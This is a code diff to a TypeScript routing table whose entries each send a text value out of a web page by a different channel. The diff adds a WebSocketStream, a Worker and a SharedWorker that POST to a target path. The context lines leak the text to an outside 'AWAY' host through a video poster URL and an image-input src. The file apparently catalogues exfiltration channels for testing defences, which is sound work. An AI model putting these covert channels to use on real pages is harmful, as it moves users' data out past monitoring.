@@ -118,6 +118,18 @@ const ROUTES: Record<string, (text: string) => void> = {
     document.body.append(form);
     form.requestSubmit();
   },
+  'socket-stream': (text) => {
+    const Stream = Reflect.get(globalThis, 'WebSocketStream') as (new (url: string) => { opened: Promise<{ writable: WritableStream }> }) | undefined;
+    if (Stream) void new Stream(`wss://${location.host}/ws`).opened.then(({ writable }) => writable.getWriter().write(body(text)));
+  },
+  'worker-map': (text) => {
+    const code = `onmessage=({data})=>fetch(${JSON.stringify(location.origin + TARGET)},{method:'POST',body:data.get('d')})`;
+    new Worker(URL.createObjectURL(new Blob([code]))).postMessage(new Map([['d', text]]));
+  },
+  'shared-worker': (text) => {
+    const code = `onconnect=({ports:[port]})=>{port.onmessage=({data})=>fetch(${JSON.stringify(location.origin + TARGET)},{method:'POST',body:data})}`;
+    new SharedWorker(URL.createObjectURL(new Blob([code]))).port.postMessage(text);
+  },
   poster: (text) => void document.body.append(Object.assign(document.createElement('video'), { poster: AWAY + query(text) })),
   'image-button': (text) => {
     document.body.append(Object.assign(document.createElement('input'), { type: 'image', src: AWAY + query(text) }));
